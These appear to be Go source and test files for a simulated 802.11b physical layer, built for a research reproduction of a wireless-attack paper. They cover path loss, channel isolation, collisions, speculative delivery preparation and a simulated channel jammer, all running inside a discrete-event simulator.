// The purity contract (sim.Event.prep): a prepare reads shared medium state
// but writes only its own transmission's txPrep. That holds because prepares
// run strictly between commit phases (the window barrier), when nothing
// mutates the medium, and no two prepares share a txPrep. Everything a
// prepare reads is either immutable after construction (cfg, cellSize,
// spatial), snapshotted into the transmission at send time (channel, power,
// position source, the overlaps prefix), or covered by a generation stamp:
//
//   - posGen: any radio movement invalidates (positions feed every path-loss
//     term);
//   - chanGen over the transmission's channel neighborhood (c±4): every
//     candidate, and every candidate's tuned channel, lives in those shards,
//     and any attach or retune touching them bumps a stamped counter. A
//     retune bumps both endpoints, so radios entering or leaving the
//     neighborhood are covered from either side.
//
// Live per-radio reception state (down, recv) is cheap and order-stable, so
// the commit rechecks it directly instead of stamping it. Overlaps appended
// after the prepare (the list is append-only until retire) fold in at commit
// time: collided is an order-insensitive OR, so prefix + suffix is exact.
//
// Prepares only exist in spatial mode: shadowing makes rxPowerDBm draw from
// the medium's RNG, which a prepare must never touch.

// prepRx is one candidate's precomputed reception.
type prepRx struct {
	rssi, snr float64
	// floor: deterministically below the decode floor (no RNG draw).
	floor bool
	// collided: defeated by an overlap registered before the prepare ran.
	collided bool
}

// txPrep is a transmission's speculative delivery state, owned by the
// prepare hook between the window barrier and the commit.
type txPrep struct {
	prepared  bool
	posGen    uint64
	chanLo    Channel
	nChan     int
	chanGen   [9]uint64 // stamps for channelNeighborhood(channel), ≤ 9 wide
	overlapsN int       // overlaps prefix the interference scan covered
	cand      []*Radio
	rx        []prepRx
}

// prepare speculatively computes tx's delivery. Runs on a prepare lane; see
// the package comment above for why every read is safe and every write is
// tx-local.
func (m *Medium) prepare(tx *transmission) {
	p := &tx.prep
	p.prepared = false
	if !m.spatial {
		return
	}
	p.posGen = m.posGen
	lo, hi := channelNeighborhood(tx.channel)
	p.chanLo = lo
	p.nChan = int(hi - lo + 1)
	for ch := lo; ch <= hi; ch++ {
		p.chanGen[ch-lo] = m.chanGen[ch]
	}
	p.overlapsN = len(tx.overlaps)
	p.cand = m.gatherInto(p.cand[:0], tx)
	if cap(p.rx) < len(p.cand) {
		p.rx = make([]prepRx, len(p.cand))
	}
	p.rx = p.rx[:len(p.cand)]
	for i, rx := range p.cand {
		if rx == tx.src {
			// The commit skips the source before reading its slot.
			continue
		}
		rej := channelRejectionDB(tx.channel, rx.channel)
		// Identical to the serial path's arithmetic (rxPowerDBm never
		// reaches its shadowing draw in spatial mode), so the committed
		// floats are bit-identical.
		rssi := m.rxPowerDBm(tx.powerDBm, tx.src.pos, rx.pos) - rej
		snr := rssi - m.cfg.NoiseFloorDBm
		r := &p.rx[i]
		r.rssi, r.snr = rssi, snr
		r.floor = snr+rej < decodeFloorSNRDB
		r.collided = false
		if !r.floor {
			r.collided = m.overlapCollides(tx.overlaps[:p.overlapsN], rx, rssi)
		}
	}
	p.prepared = true
}

// prepValid reports whether tx's prepared delivery may be committed: the
// prepare ran, no radio moved, and no attach/retune touched the channel
// neighborhood since.
func (m *Medium) prepValid(tx *transmission) bool {
	p := &tx.prep
	if !p.prepared || p.posGen != m.posGen {
		return false
	}
	for i := 0; i < p.nChan; i++ {
		if p.chanGen[i] != m.chanGen[p.chanLo+Channel(i)] {
			return false
		}
	}
	return true
}
