package phy

import (
	"math"
	"testing"

	"repro/internal/sim"
)

func newTestMedium(seed uint64) (*sim.Kernel, *Medium) {
	k := sim.NewKernel(seed)
	return k, NewMedium(k, Config{})
}

func TestChannelValid(t *testing.T) {
	if Channel(0).Valid() || Channel(12).Valid() {
		t.Error("out-of-range channel accepted")
	}
	if !Channel(1).Valid() || !Channel(6).Valid() || !Channel(11).Valid() {
		t.Error("valid channel rejected")
	}
}

func TestRateString(t *testing.T) {
	if Rate11Mbps.String() != "11Mbps" || Rate5Mbps.String() != "5.5Mbps" {
		t.Error("rate names")
	}
}

func TestAirtime(t *testing.T) {
	// 1000 bytes at 1 Mb/s = 8000 µs + 192 µs preamble.
	if got := Airtime(1000, Rate1Mbps); got != 8192*sim.Microsecond {
		t.Fatalf("airtime = %v", got)
	}
	// Higher rate, shorter airtime.
	if Airtime(1000, Rate11Mbps) >= Airtime(1000, Rate1Mbps) {
		t.Fatal("11 Mb/s not faster than 1 Mb/s")
	}
}

func TestPositionDistance(t *testing.T) {
	if d := (Position{0, 0}).DistanceTo(Position{3, 4}); d != 5 {
		t.Fatalf("distance = %v", d)
	}
}

func TestNearbyRadiosDeliver(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{5, 0}, Channel: 1})
	var got []byte
	b.SetReceiver(func(data []byte, info RxInfo) { got = append([]byte{}, data...) })
	a.Send([]byte("beacon"), Rate11Mbps)
	k.Run()
	if string(got) != "beacon" {
		t.Fatalf("got %q", got)
	}
	if a.TxFrames != 1 || b.RxFrames != 1 {
		t.Fatal("counters")
	}
}

func TestSenderDoesNotHearItself(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	heard := false
	a.SetReceiver(func(data []byte, info RxInfo) { heard = true })
	a.Send([]byte("x"), Rate1Mbps)
	k.Run()
	if heard {
		t.Fatal("radio received its own transmission")
	}
}

func TestDifferentChannelIsolation(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{5, 0}, Channel: 6})
	heard := false
	b.SetReceiver(func(data []byte, info RxInfo) { heard = true })
	a.Send([]byte("x"), Rate1Mbps)
	k.Run()
	if heard {
		t.Fatal("channel-6 radio heard channel-1 frame (separation 5 must be orthogonal)")
	}
}

func TestAdjacentChannelLeakage(t *testing.T) {
	// Channels 1 and 2 overlap: a very close radio still hears, attenuated.
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{1, 0}, Channel: 2})
	var rssiAdj float64
	b.SetReceiver(func(data []byte, info RxInfo) { rssiAdj = info.RSSIDBm })
	a.Send([]byte("x"), Rate1Mbps)
	k.Run()
	if rssiAdj == 0 {
		t.Fatal("adjacent channel heard nothing at 1 m")
	}
	// Same-channel RSSI for comparison.
	b.SetChannel(1)
	var rssiSame float64
	b.SetReceiver(func(data []byte, info RxInfo) { rssiSame = info.RSSIDBm })
	a.Send([]byte("x"), Rate1Mbps)
	k.Run()
	if math.Abs((rssiSame-rssiAdj)-12) > 0.01 {
		t.Fatalf("adjacent rejection = %v dB, want 12", rssiSame-rssiAdj)
	}
}

func TestDistantRadioDrops(t *testing.T) {
	// A 10 km radio sits far outside the decode range: the spatial grid
	// prunes it before the loss model ever evaluates it, so it hears
	// nothing and costs nothing.
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{10000, 0}, Channel: 1})
	heard := 0
	b.SetReceiver(func(data []byte, info RxInfo) { heard++ })
	for i := 0; i < 50; i++ {
		a.Send([]byte("x"), Rate11Mbps)
	}
	k.Run()
	if heard != 0 {
		t.Fatalf("10 km radio heard %d frames", heard)
	}
}

func TestDecodeFloorSkipsWithoutDraw(t *testing.T) {
	// A radio inside the grid's candidate rectangle but below the decode
	// floor (SNR more than 12 dB under the rate's requirement) is counted
	// as an SNR drop without consuming an RNG draw: two mediums, one with
	// and one without the marginal radio, must keep identical RNG streams.
	run := func(withEdge bool) uint64 {
		k, m := newTestMedium(9)
		a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
		b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{100, 0}, Channel: 1})
		b.SetReceiver(func(data []byte, info RxInfo) {})
		if withEdge {
			// 500 m: beyond maxDecodeRange(15 dBm) ≈ 402 m but still inside
			// the conservative cell rectangle (cell edge ≈ 402 m), so the
			// grid hands it to the delivery loop and the floor — not the
			// grid — must reject it, without an RNG draw.
			e := m.AddRadio(RadioConfig{Name: "edge", Pos: Position{500, 0}, Channel: 1})
			e.SetReceiver(func(data []byte, info RxInfo) {})
		}
		for i := 0; i < 100; i++ {
			a.Send(make([]byte, 500), Rate11Mbps)
		}
		k.Run()
		if withEdge {
			edge := m.Radios()[2]
			if edge.RxBelowSNR != 100 {
				t.Fatalf("edge radio RxBelowSNR = %d, want 100", edge.RxBelowSNR)
			}
		}
		return b.RxFrames
	}
	if with, without := run(true), run(false); with != without {
		t.Fatalf("edge radio changed the in-range radio's loss pattern: %d vs %d deliveries", with, without)
	}
}

func TestShardedMatchesUnshardedDigest(t *testing.T) {
	// Differential check: with all radios inside decode range, the sharded
	// medium must reproduce the unsharded scan's digest byte-identically —
	// same candidates, same order, same draws. Run with and without
	// shadowing (shadowing adds a per-candidate draw and disables pruning).
	for _, sigma := range []float64{0, 3} {
		digests := map[bool]uint64{}
		for _, unsharded := range []bool{false, true} {
			k := sim.NewKernel(7)
			m := NewMedium(k, Config{ShadowingSigmaDB: sigma, DisableSharding: unsharded})
			radios := make([]*Radio, 0, 30)
			for i := 0; i < 30; i++ {
				ch := Channel(1 + 5*(i%3)) // channels 1/6/11
				r := m.AddRadio(RadioConfig{
					Name:    "r",
					Pos:     Position{float64(i%6) * 30, float64(i/6) * 30},
					Channel: ch,
				})
				r.SetReceiver(func(data []byte, info RxInfo) {})
				radios = append(radios, r)
			}
			for round := 0; round < 20; round++ {
				src := radios[(round*7)%len(radios)]
				src.Send(make([]byte, 200+round), Rate11Mbps)
				k.RunFor(5 * sim.Millisecond)
			}
			k.Run()
			digests[unsharded] = k.Digest()
		}
		if digests[false] != digests[true] {
			t.Fatalf("sigma=%v: sharded digest %016x != unsharded %016x", sigma, digests[false], digests[true])
		}
	}
}

func TestShardMigration(t *testing.T) {
	// Channel and position changes migrate radios between shards and grid
	// cells: a retuned radio hears its new channel and not its old one.
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{5, 0}, Channel: 11})
	heard := 0
	b.SetReceiver(func(data []byte, info RxInfo) { heard++ })
	a.Send([]byte("x"), Rate11Mbps)
	k.Run()
	if heard != 0 {
		t.Fatal("channel-11 radio heard channel 1")
	}
	b.SetChannel(1)
	a.Send([]byte("x"), Rate11Mbps)
	k.Run()
	if heard != 1 {
		t.Fatalf("retuned radio heard %d frames, want 1", heard)
	}
	// Move b far out of range (crossing many grid cells), then back.
	b.SetPosition(Position{5000, 5000})
	a.Send([]byte("x"), Rate11Mbps)
	k.Run()
	if heard != 1 {
		t.Fatal("out-of-range radio still hearing frames after move")
	}
	b.SetPosition(Position{5, 0})
	a.Send([]byte("x"), Rate11Mbps)
	k.Run()
	if heard != 2 {
		t.Fatalf("returned radio heard %d frames, want 2", heard)
	}
}

func TestRSSIDecreasesWithDistance(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	near := m.AddRadio(RadioConfig{Name: "n", Pos: Position{2, 0}, Channel: 1})
	far := m.AddRadio(RadioConfig{Name: "f", Pos: Position{20, 0}, Channel: 1})
	var rssiNear, rssiFar float64
	near.SetReceiver(func(data []byte, info RxInfo) { rssiNear = info.RSSIDBm })
	far.SetReceiver(func(data []byte, info RxInfo) { rssiFar = info.RSSIDBm })
	a.Send([]byte("x"), Rate1Mbps)
	k.Run()
	if rssiNear <= rssiFar {
		t.Fatalf("near RSSI %v <= far RSSI %v", rssiNear, rssiFar)
	}
	// Log-distance: 10x distance at exponent 3 = 30 dB.
	if math.Abs((rssiNear-rssiFar)-30) > 0.01 {
		t.Fatalf("10x distance attenuation = %v dB, want 30", rssiNear-rssiFar)
	}
}

func TestBroadcastNature(t *testing.T) {
	// The paper's core observation: everyone in range hears everything.
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	heard := 0
	for i := 0; i < 5; i++ {
		r := m.AddRadio(RadioConfig{Pos: Position{float64(i + 1), 0}, Channel: 1})
		r.SetReceiver(func(data []byte, info RxInfo) { heard++ })
	}
	a.Send([]byte("secret"), Rate11Mbps)
	k.Run()
	if heard != 5 {
		t.Fatalf("%d/5 radios heard the frame", heard)
	}
}

func TestCollisionDropsBoth(t *testing.T) {
	k, m := newTestMedium(1)
	// Two senders equidistant from the receiver transmit simultaneously at
	// equal power: neither captures.
	s1 := m.AddRadio(RadioConfig{Name: "s1", Pos: Position{-5, 0}, Channel: 1})
	s2 := m.AddRadio(RadioConfig{Name: "s2", Pos: Position{5, 0}, Channel: 1})
	rx := m.AddRadio(RadioConfig{Name: "rx", Pos: Position{0, 0}, Channel: 1})
	heard := 0
	rx.SetReceiver(func(data []byte, info RxInfo) { heard++ })
	s1.Send(make([]byte, 500), Rate11Mbps)
	s2.Send(make([]byte, 500), Rate11Mbps)
	k.Run()
	if heard != 0 {
		t.Fatalf("receiver decoded %d frames during collision", heard)
	}
	if rx.RxCollisions != 2 {
		t.Fatalf("RxCollisions = %d, want 2", rx.RxCollisions)
	}
}

func TestCaptureEffect(t *testing.T) {
	k, m := newTestMedium(1)
	// A much closer sender captures over a distant interferer.
	strong := m.AddRadio(RadioConfig{Name: "strong", Pos: Position{1, 0}, Channel: 1})
	weak := m.AddRadio(RadioConfig{Name: "weak", Pos: Position{50, 0}, Channel: 1})
	rx := m.AddRadio(RadioConfig{Name: "rx", Pos: Position{0, 0}, Channel: 1})
	var decoded []string
	rx.SetReceiver(func(data []byte, info RxInfo) { decoded = append(decoded, string(data)) })
	strong.Send([]byte("strong"), Rate11Mbps)
	weak.Send([]byte("weak!!"), Rate11Mbps)
	k.Run()
	if len(decoded) != 1 || decoded[0] != "strong" {
		t.Fatalf("decoded %v, want [strong] only", decoded)
	}
}

func TestNonOverlappingNoCollision(t *testing.T) {
	k, m := newTestMedium(1)
	s1 := m.AddRadio(RadioConfig{Name: "s1", Pos: Position{-5, 0}, Channel: 1})
	s2 := m.AddRadio(RadioConfig{Name: "s2", Pos: Position{5, 0}, Channel: 1})
	rx := m.AddRadio(RadioConfig{Name: "rx", Pos: Position{0, 0}, Channel: 1})
	heard := 0
	rx.SetReceiver(func(data []byte, info RxInfo) { heard++ })
	s1.Send(make([]byte, 100), Rate11Mbps)
	k.After(10*sim.Millisecond, func() { s2.Send(make([]byte, 100), Rate11Mbps) })
	k.Run()
	if heard != 2 {
		t.Fatalf("heard %d frames, want 2", heard)
	}
}

func TestOwnTransmissionsSerialise(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{2, 0}, Channel: 1})
	var times []sim.Time
	b.SetReceiver(func(data []byte, info RxInfo) { times = append(times, k.Now()) })
	a.Send(make([]byte, 100), Rate1Mbps) // 992 µs
	a.Send(make([]byte, 100), Rate1Mbps)
	k.Run()
	if len(times) != 2 {
		t.Fatalf("heard %d, want 2 (same-radio frames must queue, not collide)", len(times))
	}
	if times[1]-times[0] != Airtime(100, Rate1Mbps) {
		t.Fatalf("gap %v, want %v", times[1]-times[0], Airtime(100, Rate1Mbps))
	}
}

func TestCarrierSense(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{5, 0}, Channel: 1})
	farAway := m.AddRadio(RadioConfig{Name: "far", Pos: Position{10000, 0}, Channel: 1})
	otherCh := m.AddRadio(RadioConfig{Name: "och", Pos: Position{5, 0}, Channel: 6})
	if b.CarrierBusy() {
		t.Fatal("busy before any transmission")
	}
	a.Send(make([]byte, 1000), Rate1Mbps)
	k.After(time100us(), func() {
		if !b.CarrierBusy() {
			t.Error("nearby radio does not sense carrier")
		}
		if farAway.CarrierBusy() {
			t.Error("10 km radio senses carrier")
		}
		if otherCh.CarrierBusy() {
			t.Error("orthogonal channel senses carrier")
		}
	})
	k.Run()
	if b.CarrierBusy() {
		t.Fatal("busy after transmission ended")
	}
}

func time100us() sim.Time { return 100 * sim.Microsecond }

func TestSNRAtMatchesModel(t *testing.T) {
	_, m := newTestMedium(1)
	// 15 dBm - (40 + 30*log10(10)) = 15-70 = -55 dBm; SNR = -55+95 = 40 dB.
	got := m.SNRAt(15, Position{0, 0}, Position{10, 0})
	if math.Abs(got-40) > 0.01 {
		t.Fatalf("SNR = %v, want 40", got)
	}
}

func TestLossIncreasesWithDistance(t *testing.T) {
	k, m := newTestMedium(7)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	// Position a receiver near its sensitivity edge: required SNR 10 at
	// 11 Mb/s, SNR(d) = 70 - 30 log10(d); SNR=10 → d ≈ 100 m.
	edge := m.AddRadio(RadioConfig{Name: "edge", Pos: Position{100, 0}, Channel: 1})
	near := m.AddRadio(RadioConfig{Name: "near", Pos: Position{5, 0}, Channel: 1})
	edgeHeard, nearHeard := 0, 0
	edge.SetReceiver(func(data []byte, info RxInfo) { edgeHeard++ })
	near.SetReceiver(func(data []byte, info RxInfo) { nearHeard++ })
	const n = 200
	for i := 0; i < n; i++ {
		a.Send(make([]byte, 500), Rate11Mbps)
	}
	k.Run()
	if nearHeard != n {
		t.Fatalf("near radio heard %d/%d", nearHeard, n)
	}
	if edgeHeard == 0 || edgeHeard == n {
		t.Fatalf("edge radio heard %d/%d, want lossy but nonzero", edgeHeard, n)
	}
}

func TestInvalidChannelPanics(t *testing.T) {
	_, m := newTestMedium(1)
	defer func() {
		if recover() == nil {
			t.Error("invalid channel accepted")
		}
	}()
	m.AddRadio(RadioConfig{Channel: 13})
}

func TestSetChannelInvalidPanics(t *testing.T) {
	_, m := newTestMedium(1)
	r := m.AddRadio(RadioConfig{Channel: 1})
	defer func() {
		if recover() == nil {
			t.Error("invalid SetChannel accepted")
		}
	}()
	r.SetChannel(0)
}

func TestRxInfoFields(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 3})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{5, 0}, Channel: 3})
	var info RxInfo
	b.SetReceiver(func(data []byte, i RxInfo) { info = i })
	a.Send(make([]byte, 200), Rate2Mbps)
	k.Run()
	if info.Channel != 3 || info.Rate != Rate2Mbps || info.Src != a {
		t.Fatalf("info = %+v", info)
	}
	if info.Airtime != Airtime(200, Rate2Mbps) {
		t.Fatal("airtime mismatch")
	}
	if info.SNRDB <= 0 {
		t.Fatal("SNR not positive at 5 m")
	}
}

func TestShadowingAddsVariance(t *testing.T) {
	k := sim.NewKernel(1)
	m := NewMedium(k, Config{ShadowingSigmaDB: 6})
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{10, 0}, Channel: 1})
	rssis := map[float64]bool{}
	b.SetReceiver(func(data []byte, info RxInfo) { rssis[info.RSSIDBm] = true })
	for i := 0; i < 20; i++ {
		a.Send([]byte("x"), Rate1Mbps)
	}
	k.Run()
	if len(rssis) < 10 {
		t.Fatalf("shadowing produced only %d distinct RSSIs", len(rssis))
	}
}

func TestMediumStats(t *testing.T) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	b := m.AddRadio(RadioConfig{Name: "b", Pos: Position{5, 0}, Channel: 1})
	b.SetReceiver(func(data []byte, info RxInfo) {})
	a.Send([]byte("x"), Rate11Mbps)
	k.Run()
	if m.Transmissions != 1 || m.Deliveries != 1 {
		t.Fatalf("stats tx=%d rx=%d", m.Transmissions, m.Deliveries)
	}
}

func BenchmarkMediumBroadcast10Radios(b *testing.B) {
	k, m := newTestMedium(1)
	a := m.AddRadio(RadioConfig{Name: "a", Pos: Position{0, 0}, Channel: 1})
	for i := 0; i < 10; i++ {
		r := m.AddRadio(RadioConfig{Pos: Position{float64(i + 1), 0}, Channel: 1})
		r.SetReceiver(func(data []byte, info RxInfo) {})
	}
	payload := make([]byte, 1500)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		a.Send(payload, Rate11Mbps)
		k.Run()
	}
}
