package phy

import (
	"repro/internal/sim"
)

// Jammer floods a channel with meaningless transmissions, denying it to
// everyone in range — the paper's Section 1 lists jamming among the threats
// wireless inherits from its broadcast physical layer. (A jammer can also
// serve the rogue: silence the real AP's channel and the clients roam.)
type Jammer struct {
	kernel  *sim.Kernel
	radio   *Radio
	payload []byte
	rate    Rate
	stopped bool

	// Bursts counts jamming transmissions.
	Bursts uint64
}

// NewJammer starts continuous jamming on the radio's channel with bursts of
// burstBytes at the given rate (defaults: 1500 bytes at 1 Mb/s — long, slow
// bursts occupy the most airtime per transmission).
func NewJammer(k *sim.Kernel, radio *Radio, burstBytes int, rate Rate) *Jammer {
	if burstBytes <= 0 {
		burstBytes = 1500
	}
	if rate == 0 {
		rate = Rate1Mbps
	}
	j := &Jammer{kernel: k, radio: radio, payload: make([]byte, burstBytes), rate: rate}
	j.burst()
	return j
}

// Stop ends the jamming after the current burst.
func (j *Jammer) Stop() { j.stopped = true }

func (j *Jammer) burst() {
	if j.stopped {
		return
	}
	j.Bursts++
	end := j.radio.Send(j.payload, j.rate)
	// Back-to-back bursts: the channel never goes idle.
	j.kernel.Schedule(end, j.burst)
}
