package phy

import (
	"math"

	"repro/internal/sim"
)

// Jammer floods a channel with meaningless transmissions, denying it to
// everyone in range — the paper's Section 1 lists jamming among the threats
// wireless inherits from its broadcast physical layer. (A jammer can also
// serve the rogue: silence the real AP's channel and the clients roam.)
type Jammer struct {
	kernel  *sim.Kernel
	radio   *Radio
	payload []byte
	rate    Rate
	stopped bool

	// Bursts counts jamming transmissions.
	Bursts uint64
	// peakEnergy is the strongest co-channel energy sensed at any burst
	// boundary (see ObservedEnergyDBm).
	peakEnergy float64
}

// NewJammer starts continuous jamming on the radio's channel with bursts of
// burstBytes at the given rate (defaults: 1500 bytes at 1 Mb/s — long, slow
// bursts occupy the most airtime per transmission).
func NewJammer(k *sim.Kernel, radio *Radio, burstBytes int, rate Rate) *Jammer {
	if burstBytes <= 0 {
		burstBytes = 1500
	}
	if rate == 0 {
		rate = Rate1Mbps
	}
	j := &Jammer{
		kernel: k, radio: radio, payload: make([]byte, burstBytes), rate: rate,
		peakEnergy: math.Inf(-1),
	}
	j.burst()
	return j
}

// Stop ends the jamming after the current burst.
func (j *Jammer) Stop() { j.stopped = true }

// ObservedEnergyDBm reports the strongest energy the jammer's radio sensed
// on its channel at any burst boundary — the noise floor if the air was
// always otherwise quiet. The jammer has no receiver (it decodes nothing),
// so this reads the medium's per-channel shard index directly via
// Radio.EnergyDBm: energy from channels past the rejection range never
// registers, because those shards are outside the radio's neighborhood.
func (j *Jammer) ObservedEnergyDBm() float64 { return j.peakEnergy }

func (j *Jammer) burst() {
	if j.stopped {
		return
	}
	// Sample the air before keying up: our own burst is excluded from
	// EnergyDBm while transmitting, but competing transmissions mid-flight
	// at this instant are what the jammer can sense between bursts.
	if e := j.radio.EnergyDBm(); e > j.peakEnergy {
		j.peakEnergy = e
	}
	j.Bursts++
	end := j.radio.Send(j.payload, j.rate)
	// Back-to-back bursts: the channel never goes idle.
	j.kernel.Schedule(end, j.burst)
}
