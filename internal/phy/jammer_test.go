package phy

import (
	"testing"

	"repro/internal/sim"
)

func TestJammerDeniesChannel(t *testing.T) {
	k, m := newTestMedium(1)
	tx := m.AddRadio(RadioConfig{Name: "tx", Pos: Position{0, 0}, Channel: 1})
	rx := m.AddRadio(RadioConfig{Name: "rx", Pos: Position{10, 0}, Channel: 1})
	heard := 0
	// Count only the legitimate transmitter's 500-byte frames: the PHY also
	// delivers the jammer's (stronger, capture-winning) noise bursts, which
	// a real MAC would discard as garbage.
	rx.SetReceiver(func(data []byte, info RxInfo) {
		if len(data) == 500 {
			heard++
		}
	})

	// Baseline: frames arrive.
	for i := 0; i < 10; i++ {
		tx.Send(make([]byte, 500), Rate11Mbps)
	}
	k.RunFor(sim.Second)
	if heard != 10 {
		t.Fatalf("baseline heard %d/10", heard)
	}

	// Jam from right next to the receiver: everything collides.
	jamRadio := m.AddRadio(RadioConfig{Name: "jam", Pos: Position{10, 1}, Channel: 1})
	j := NewJammer(k, jamRadio, 1500, Rate1Mbps)
	heard = 0
	for i := 0; i < 20; i++ {
		tx.Send(make([]byte, 500), Rate11Mbps)
	}
	k.RunFor(sim.Second)
	if heard != 0 {
		t.Fatalf("heard %d frames through the jammer", heard)
	}
	if rx.RxCollisions == 0 {
		t.Fatal("no collisions recorded at the jammed receiver")
	}
	if j.Bursts == 0 {
		t.Fatal("jammer sent nothing")
	}

	// Stop: channel recovers.
	j.Stop()
	k.RunFor(sim.Second) // drain the final burst
	heard = 0
	for i := 0; i < 10; i++ {
		tx.Send(make([]byte, 500), Rate11Mbps)
	}
	k.RunFor(sim.Second)
	if heard != 10 {
		t.Fatalf("after Stop heard %d/10", heard)
	}
}

func TestJammerEnergyIsShardLocal(t *testing.T) {
	// The jammer senses the air through the per-channel shard index
	// (Radio.EnergyDBm), not through a receiver. A jammer on channel 6 must
	// never observe channel-11 energy beyond the rejection floor — channels
	// 5 apart are orthogonal, so that shard is outside its neighborhood —
	// while the same blaster moved to channel 6 registers loudly.
	k, m := newTestMedium(1)
	noise := m.cfg.NoiseFloorDBm
	jamRadio := m.AddRadio(RadioConfig{Name: "jam", Pos: Position{0, 0}, Channel: 6})
	j := NewJammer(k, jamRadio, 700, Rate1Mbps)
	// A continuous channel-11 blaster right next to the jammer: different
	// burst length so its airtime interleaves with the jammer's samples.
	blaster := m.AddRadio(RadioConfig{Name: "blast", Pos: Position{1, 0}, Channel: 11})
	var sendNext func()
	sendNext = func() {
		end := blaster.Send(make([]byte, 400), Rate1Mbps)
		k.Schedule(end, sendNext)
	}
	sendNext()
	k.RunFor(2 * sim.Second)
	j.Stop()
	if got := j.ObservedEnergyDBm(); got > noise {
		t.Fatalf("channel-6 jammer observed %v dBm of channel-11 energy (rejection floor %v)", got, noise)
	}

	// Positive control: the same geometry on a co-channel blaster.
	k2, m2 := newTestMedium(1)
	jamRadio2 := m2.AddRadio(RadioConfig{Name: "jam", Pos: Position{0, 0}, Channel: 6})
	j2 := NewJammer(k2, jamRadio2, 700, Rate1Mbps)
	blaster2 := m2.AddRadio(RadioConfig{Name: "blast", Pos: Position{1, 0}, Channel: 6})
	var sendNext2 func()
	sendNext2 = func() {
		end := blaster2.Send(make([]byte, 400), Rate1Mbps)
		k2.Schedule(end, sendNext2)
	}
	sendNext2()
	k2.RunFor(2 * sim.Second)
	j2.Stop()
	if got := j2.ObservedEnergyDBm(); got <= m2.cfg.CarrierSenseDBm {
		t.Fatalf("co-channel jammer observed only %v dBm, want above carrier-sense threshold", got)
	}
}

func TestJammerIsChannelLocal(t *testing.T) {
	k, m := newTestMedium(1)
	jamRadio := m.AddRadio(RadioConfig{Name: "jam", Pos: Position{0, 0}, Channel: 1})
	NewJammer(k, jamRadio, 1500, Rate1Mbps)
	// Channel 6 (orthogonal) is unaffected.
	tx := m.AddRadio(RadioConfig{Name: "tx", Pos: Position{0, 1}, Channel: 6})
	rx := m.AddRadio(RadioConfig{Name: "rx", Pos: Position{5, 0}, Channel: 6})
	heard := 0
	rx.SetReceiver(func(data []byte, info RxInfo) { heard++ })
	for i := 0; i < 10; i++ {
		tx.Send(make([]byte, 500), Rate11Mbps)
	}
	k.RunFor(sim.Second)
	if heard != 10 {
		t.Fatalf("orthogonal channel heard %d/10 under jamming", heard)
	}
}
