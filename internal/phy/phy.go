// Package phy models the 802.11b physical layer: a shared broadcast medium
// with DSSS channels 1–11, log-distance path loss, SNR-dependent frame loss,
// airtime at the 1/2/5.5/11 Mb/s rates, carrier sense, and collisions.
//
// The model is deliberately simple but captures the properties the paper's
// attack depends on:
//
//   - broadcast: every radio in range overhears every frame (Section 1.1's
//     eavesdropping asymmetry, experiment E8);
//   - signal strength: clients prefer the loudest AP for an SSID, which is
//     how a nearby rogue wins associations (experiment E1);
//   - channels: the rogue runs on a different channel (Figure 1: CORP on
//     channel 1, rogue on channel 6) so it does not compete with the real AP.
package phy

import (
	"fmt"
	"math"

	"repro/internal/pkt"
	"repro/internal/sim"
)

// Channel is an 802.11b DSSS channel number (1–11 in the US).
type Channel int

// MinChannel and MaxChannel bound the US 802.11b channel plan.
const (
	MinChannel Channel = 1
	MaxChannel Channel = 11
)

// Valid reports whether c is a legal channel.
func (c Channel) Valid() bool { return c >= MinChannel && c <= MaxChannel }

// Rate is an 802.11b PHY bit rate.
type Rate int

// The four 802.11b rates.
const (
	Rate1Mbps  Rate = 1_000_000
	Rate2Mbps  Rate = 2_000_000
	Rate5Mbps  Rate = 5_500_000
	Rate11Mbps Rate = 11_000_000
)

// String formats the rate.
func (r Rate) String() string {
	switch r {
	case Rate5Mbps:
		return "5.5Mbps"
	default:
		return fmt.Sprintf("%dMbps", int(r)/1_000_000)
	}
}

// requiredSNR is the SNR (dB) at which each rate starts working well.
func (r Rate) requiredSNR() float64 {
	switch r {
	case Rate1Mbps:
		return 4
	case Rate2Mbps:
		return 6
	case Rate5Mbps:
		return 8
	default: // 11 Mb/s
		return 10
	}
}

// plcpOverhead is the long-preamble PLCP preamble+header airtime.
const plcpOverhead = 192 * sim.Microsecond

